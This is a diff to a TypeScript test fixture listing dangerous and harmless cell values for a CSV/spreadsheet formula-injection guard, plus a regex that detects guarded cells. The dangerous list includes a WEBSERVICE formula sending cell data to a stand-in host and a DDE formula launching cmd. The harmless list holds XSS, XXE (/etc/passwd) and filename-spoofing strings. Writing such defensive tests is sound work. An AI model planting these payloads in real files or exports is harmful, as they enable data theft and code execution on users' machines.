@@ -26,6 +26,14 @@ export const dangerous = [
   "=",
   '="quoted"',
   "=a,b;c\r\nd",
+  "=a|b\tc",
+  "'=1+1",
+  "''+1",
+  "'\tx",
+  '=WEBSERVICE("https://example.test/"&A1)',
+  '=DDE("cmd";"/C calc";"x")',
+  "@import('x')",
+  "-49170",
 ];
 
 export const harmless = [
@@ -33,7 +41,8 @@ export const harmless = [
   "hello",
   "a=1",
   "49-170",
-  "'=1+1",
+  "'",
+  "'quoted'",
   ",=1+1",
   ";=1+1",
   '"=1+1',
@@ -52,4 +61,20 @@ export const harmless = [
   " leading and trailing ",
   "<f>1+1</f>",
   "]]>&amp;",
+  "<script>alert(1)</script>",
+  '<a href="javascript:alert(1)">x</a>',
+  "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
+  "\u202egnp.exe\u2066x\u2069",
+  "a\u0001b\u007fc",
+  "00491701",
+  "4917012345678901234",
+  "1e5",
+  "2026-01-02",
+  "\\N",
+  "NULL",
 ];
+
+/** What a reader does who wants the text that was there before the guard. */
+export const withoutGuard = (cell: string): string => (guarded.test(cell) ? cell.slice(1) : cell);
+const blanks = "[ \\v\\f\\u00a0\\u1680\\u2000-\\u200d\\u2028\\u2029\\u202f\\u205f\\u2060\\u3000\\ufeff]*";
+const guarded = new RegExp(`^'+(?:[\\t\\n\\r]|${blanks}[=+@＝＋－＠-])`);
